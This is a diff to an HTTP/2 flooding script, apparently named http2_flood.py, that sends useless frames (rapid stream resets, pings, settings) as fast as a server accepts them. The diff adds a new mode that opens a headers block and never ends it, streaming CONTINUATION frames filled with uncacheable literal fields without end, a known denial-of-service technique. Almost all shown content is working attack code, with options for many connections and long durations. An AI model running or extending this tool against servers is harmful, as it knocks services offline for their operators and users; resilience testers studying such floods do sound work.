@@ -1,6 +1,7 @@
 #!/usr/bin/env python3
 """Sends frames of HTTP/2 that bring nothing, as fast as the other end takes
-them: calls that are reset at once, pings, settings.
+them: calls that are reset at once, pings, settings, a call whose headers never
+end.
 
 usage: http2_flood.py HOST:PORT KIND SECONDS [--certs FOLDER] [--connections N]
        [--path METHOD] [--from HOST] [--again]
@@ -19,7 +20,8 @@ import threading
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-HEADERS, RESET, SETTINGS, PING = 1, 3, 4, 6
+HEADERS, RESET, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
+KINDS = ("reset", "settings", "ping", "headers")
 ACK, END_HEADERS = 1, 4
 CANCEL = struct.pack(">I", 8)
 BATCH = 4096  # frames, or pairs of them, in one write
@@ -47,6 +49,11 @@ def first_headers(path):
 
 def batches(kind, path):
     """Yields the bytes of one write after the other, without end."""
+    if kind == "headers":
+        yield frame(HEADERS, 0, 1, first_headers(path)[0])
+        field = b"\0\1x\x64" + b"y" * 100  # a literal that no table keeps
+        while True:
+            yield frame(CONTINUATION, 0, 1, field * 150) * 64
     if kind != "reset":
         one = (frame(PING, 0, 0, b"12345678") if kind == "ping" else
                frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
@@ -121,7 +128,7 @@ class Flood:
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("address")
-    parser.add_argument("kind", choices=["reset", "ping", "settings"])
+    parser.add_argument("kind", choices=KINDS)
     parser.add_argument("seconds", type=float)
     parser.add_argument("--certs")
     parser.add_argument("--connections", type=int, default=1)
